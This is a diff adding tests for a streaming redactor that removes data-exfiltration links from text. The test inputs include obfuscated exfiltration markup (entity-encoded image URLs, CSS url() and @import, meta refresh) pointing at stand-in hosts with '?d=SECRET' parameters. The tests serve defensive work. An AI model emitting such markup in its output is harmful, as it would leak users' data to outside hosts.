@@ -155,6 +155,14 @@ const ENTITY = fc.oneof(
   chars('abcdefgh', 3, 10).map((q) => `<img src="https://x.evil/${q}.png">`),
   chars('abcdefgh', 3, 10).map((q) => `<a href="https://x.evil/${q}">click ${q}</a>`),
   chars('abcdefgh', 3, 10).map((q) => `https://example.org/${q}?x=1`),
+  // Character references and CSS (exfil_links decodes references; url() and @import are fetches).
+  chars('abcdefgh', 3, 10).map((q) => `<img src="https&#58;//x.evil/${q}.png">`),
+  chars('abcdefgh', 3, 10).map((q) => `![${q}](&#104;ttps&colon;//evil.example/${q}?d=1)`),
+  chars('abcdefgh', 3, 10).map((q) => `<div style="background:u&#114;l(https://x.evil/${q})">`),
+  chars('abcdefgh', 3, 10).map((q) => `<p style="background-image: url( '//x.evil/${q}' )">t</p>`),
+  chars('abcdefgh', 3, 10).map((q) => `<style>@import "https://x.evil/${q}.css";</style>`),
+  chars('abcdefgh', 3, 10).map((q) => `<meta http-equiv="refresh" content="0;url=https://x.evil/${q}">`),
+  fc.constantFrom('url(/img.png)', 'AT&T', 'a &amp; b', 'url(', 'the url(s)', '@import', '&#58', '&colo'),
 );
 const SEP = fc.constantFrom(' ', ' ', ' ', '\n', '. ', ', ', '\n\n', ': ');
 const TEXT = fc.array(fc.tuple(fc.oneof({ weight: 3, arbitrary: WORD }, { weight: 1, arbitrary: ENTITY }), SEP), { minLength: 1, maxLength: 40 })
@@ -333,6 +341,96 @@ test('an image or tag whose URL runs past the hold-back is never released render
   }
 });
 
+test('character references and CSS url() / @import in 20-character events: redacted exactly as the whole text', () => {
+  // Each text carries one fetch written so that a stream cut in the wrong place would release part of
+  // it: a reference cut in its digits ("u&#11" + "4;l(" is url(), a url( cut before its value or its
+  // ')', an @import cut before its string. Events of 20 characters at every offset, and of 1 and 3.
+  const texts = [
+    'Here is the chart: <img src="&#104;&#116;&#116;&#112;&#115;&#58;//evil.example/p.png?d=SECRET"> and the rest of it.',
+    'A summary ![status](https&#58;//evil.example/s.png?d=QUARTERLY) then words that follow it here.',
+    'Styled: <div style="background:u&#114;l(https&#x3a;//evil.example/x?d=SECRET)">hello</div> and more text.',
+    'Styled: <div style="background:url&lpar;https://evil.example/x?d=SECRET&rpar;">hello</div> and more text.',
+    "Also <p style=\"background-image: URL(  'https://evil.example/y?d=SECRET'  )\">p</p> after the paragraph.",
+    'CSS: <style>body{background:url(https://evil.example/b.png?d=1)} @import "https://evil.example/i.css?d=2";</style> done.',
+    'CSS: <style>@import/* note */url(//evil.example/i.css);</style> and text after the style element.',
+    'Escaped: <div style="background:url(https\\3a //evil.example/e?d=SECRET)">x</div> done here now.',
+    'Refresh <meta http-equiv="refresh" content="0; URL=\'https&#58;//evil.example/r?d=SECRET\'"> trailing words.',
+    // The character before url( decides whether it is one: here a reference of 80 digits, longer than
+    // the left context the engine hands the redactor (64).
+    `Long reference: a{b:&#${'0'.repeat(80)}58url(https://evil.example/l?d=SECRET)} and text after it.`,
+    'Near misses: url(/img.png) and AT&T, R&amp;D, the url(s) we saw, @importance &#58; and &colon; stay as they are.',
+  ];
+  const exfil = [buildDetector('exfil_links', 'exfil', {}, BUILD)];
+  for (const detectors of [DEFAULT_DETECTORS, exfil]) {
+    const redact = redactorFor(detectors);
+    for (const text of texts) {
+      const expected = redactWhole(redact, text);
+      if (!text.startsWith('Near')) {
+        assert.ok(expected.includes('[EXFIL_LINK]') && !expected.includes('evil.example'), expected);
+      }
+      for (const size of [20, 1, 3]) {
+        for (let offset = 0; offset < (size === 20 ? 20 : 1); offset++) {
+          const deltas = [text.slice(0, offset)];
+          for (let i = offset; i < text.length; i += size) deltas.push(text.slice(i, i + size));
+          assert.equal(stream(detectors, deltas.filter((x) => x.length > 0)).content, expected, `events of ${size} from ${offset}: ${text}`);
+        }
+      }
+    }
+  }
+});
+
+test('property: texts made of CSS and character-reference pieces stream as they redact whole (exfil_links alone)', () => {
+  // Pieces that build and break url( tokens, @import strings and references at every join, so event
+  // cuts fall inside references, keywords, values and comments.
+  const PIECES = [
+    'url(', 'URL(', 'u', 'rl(', 'r', 'l', '(', ')', ' ', '\n', '"', "'", '\\', '\\3a ', '\\72 ', '&', '&#', '&#1', '17;', '&#x', '72', '3a', ';', '58',
+    '&lpar;', '&rpar;', '&colon;', '&sol;', '&co', 'lon;', '&amp;', 'https', ':', '//', 'evil.example', 'docs.example.com', '/x', '?d=1', 'a', 'x', '-', '0',
+    '@import', '@', 'import', '/*', '*/', '<div style="', '">', '<img src="', 'background:', '<style>', '</style>', '![i](', 'data:', 'mailto:',
+    // Halves of references to 'u' (117, x75), 'r' (114) and '(' (40), and the words around them.
+    'u&#11', '&#11', '4;', '4;l(', '&#x7', '5;', '5;rl(', '&#4', '0;', 'url&#4', '0;https://evil.example/',
+  ];
+  const text = fc.array(fc.constantFrom(...PIECES), { minLength: 1, maxLength: 50 }).map((xs) => xs.join(''));
+  const ds = [buildDetector('exfil_links', 'exfil', { allowed_hosts: ['docs.example.com'] }, BUILD)];
+  const redact = redactorFor(ds);
+  fc.assert(
+    fc.property(text, fc.array(fc.nat(), { maxLength: 40 }), (t, cuts) => {
+      assert.equal(stream(ds, split(t, cuts)).content, redactWhole(redact, t));
+    }),
+    { numRuns: Number(process.env.HOLD_RUNS ?? 1500) },
+  );
+});
+
+test('a CSS url() or @import whose URL runs past the hold-back is never released fetchable', () => {
+  for (const n of [3000, 20_000]) {
+    const url = `https://evil.example/p.png?d=${'a'.repeat(n)}`;
+    // [markup, its opener, whether the URL comes first]: padded with whitespace or a comment before
+    // the URL, the opener is cut before the URL has begun (the URL then goes out as plain text).
+    for (const [markup, opener, urlFirst] of [
+      [`<div style="background:url(${url})">x</div>`, 'url(', true],
+      [`<p style="background:url('${url}')">x</p>`, 'url(', true],
+      [`<style>@import "${url}";</style>`, '@import', true],
+      [`<div style="background:url(${' '.repeat(n)}https://evil.example/x)">x</div>`, 'url(', false],
+      [`<style>@import /* ${'c'.repeat(n)} */ "https://evil.example/i.css";</style>`, '@import', false],
+    ] as const) {
+      const text = `Intro words here. ${markup} and more words after.`;
+      const cut = text.indexOf(opener) + opener.length;
+      const deltas: string[] = [text.slice(0, cut)];
+      for (let i = cut; i < text.length; i += 20) deltas.push(text.slice(i, i + 20));
+      for (const detectors of [DEFAULT_DETECTORS, DEFAULT_DETECTORS.slice(2)]) {
+        const got = stream(detectors, deltas).content;
+        assert.ok(!got.includes(opener), got.slice(0, 120));
+        if (urlFirst) assert.ok(!got.includes('https://evil.example'), got.slice(0, 120));
+        const plan = holdPlan(detectors);
+        if (n < plan.maxMatchLength) assert.equal(got, redactWhole(redactorFor(detectors), text));
+        else {
+          const lags = lagPerEvent(detectors, deltas);
+          assert.ok(text.length - lags[lags.length - 1] >= n - 2 * plan.maxMatchLength, 'the stream stays within its hold-back');
+        }
+      }
+    }
+  }
+});
+
 test('hold points: gap boundary, placeholder cut, and the fixed hold-back as the floor', () => {
   assert.equal(gapBoundary('aa bb cc', 8, 0), 6);
   assert.equal(gapBoundary('aa bb cc', 8, 1), 3);
@@ -360,6 +458,23 @@ test('hold points: gap boundary, placeholder cut, and the fixed hold-back as the
   assert.equal(exfil.hold('see ![img](https://evil.example/a.png) and more'), 'see ![img](https://evil.example/a.png) and more'.length);
   assert.equal(exfil.hold('x <img src="a'), 2);
   assert.equal(exfil.hold('x < y and more'), 'x < y and more'.length);
+  // CSS and character references: an open url( or @import, a keyword being written, a reference being
+  // written (`u&#11` may become `u&#114;`: "ur"), held from where they start.
+  assert.equal(exfil.hold('a {background:url(https://evil.example/x'), 'a {background:'.length);
+  assert.equal(exfil.hold('a {background:url(https://evil.example/x) '), 'a {background:url(https://evil.example/x) '.length);
+  assert.equal(exfil.hold('a {background:url(https://evil.example/x '), 'a {background:'.length); // ')' may follow
+  assert.equal(exfil.hold("a {background:url('https://evil.example/x) more"), 'a {background:'.length); // string open
+  assert.equal(exfil.hold('a {background:Ur'), 'a {background:'.length);
+  assert.equal(exfil.hold('a {background:u&#11'), 'a {background:'.length);
+  assert.equal(exfil.hold('a {background:&#11'), 'a {background:'.length);
+  assert.equal(exfil.hold('a {background:&#117;&#x72'), 'a {background:'.length);
+  assert.equal(exfil.hold('a {b:&#58url(https://e'), 'a {b:'.length); // the character before url( is a reference
+  assert.equal(exfil.hold('a {background:url&lp'), 'a {background:'.length);
+  assert.equal(exfil.hold('a b @imp'), 'a b '.length);
+  assert.equal(exfil.hold('a b @import /* x */ "https://evil'), 'a b '.length);
+  assert.equal(exfil.hold('the flour(s) and a menu; AT&T; fish&chips'), 'the flour(s) and a menu; AT&T; fish&chips'.length);
+  assert.equal(exfil.hold('R&D &amp; more'), 'R&D &amp; more'.length);
+  assert.equal(exfil.hold('R&D &am'), 'R&D '.length);
 });
 
 test('the fixed hold-back mode (no holdFrom) is unchanged: the same output, far more lag', () => {
